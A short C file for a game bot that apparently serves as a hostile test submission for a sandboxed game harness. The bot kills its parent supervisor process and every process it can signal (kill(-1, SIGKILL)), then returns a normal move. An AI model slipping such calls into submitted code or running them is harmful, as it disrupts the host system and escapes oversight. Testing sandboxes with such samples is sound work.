/* Kills its parent (the sandbox's supervisor) and every process it may signal, then plays on. */
#include <signal.h>
int getppid(void);
int kill(int pid, int sig);
int bot(int board[16][32], char player) {
    (void)player;
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    return board[0][1] == '.' ? 'R' : 'D';
}
char *bot_name = "Kills its parent";
